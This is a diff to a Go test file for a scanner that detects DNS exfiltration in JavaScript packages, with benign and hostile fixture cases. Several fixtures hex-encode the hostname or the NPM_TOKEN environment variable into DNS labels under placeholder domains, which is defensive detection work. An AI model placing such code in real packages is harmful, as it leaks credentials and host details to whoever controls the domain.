@@ -70,6 +70,10 @@ func TestDNSExfil(t *testing.T) {
 	rt.Check(t, DNSExfil{}, []rt.Case{
 		// the dns module loaded by name at run time into an object
 		{"hex_labels_module_object", map[string]string{"index.js": "const m = {}; ['dns', 'os'].forEach((n, i) => { m['m' + i] = require(n) }); const h = Buffer.from(m.m1.hostname()).toString('hex'); m.m0.resolve4(`${h}.x.example.invalid`, () => {})"}, finding.SeverityCritical},
+		// chunks cut by a helper of the package into labels under a
+		// constant domain; a service lookup under the user's domain
+		{"labels_under_constant_domain", map[string]string{"index.js": "const dns = require('dns'), cut = require('./cut'); const t = process.env.NPM_TOKEN; cut(t, 'hex').forEach((l, i) => dns.resolve4(`${i}.${l}.d.example.invalid`, () => {}))"}, finding.SeverityCritical},
+		{"srv_under_given_domain", map[string]string{"index.js": "const dns = require('dns'); exports.find = (svc, proto, domain) => dns.resolveSrv(`_${svc}._${proto}.${domain}`, () => {}); const h = process.env.HOSTNAME"}, finding.SeverityNone},
 		{"hex_labels", map[string]string{"index.js": "const dns=require('dns'),os=require('os');const h=Buffer.from(os.hostname()).toString('hex');dns.resolve4(`${h}.x.example.invalid`,()=>{})"}, finding.SeverityCritical},
 		{"own_address", map[string]string{"index.js": "const dns=require('dns'),os=require('os');dns.lookup(os.hostname(),(e,a)=>console.log(a))"}, finding.SeverityNone},
 		// a proxy's lookup and a hash far away in the same bundle
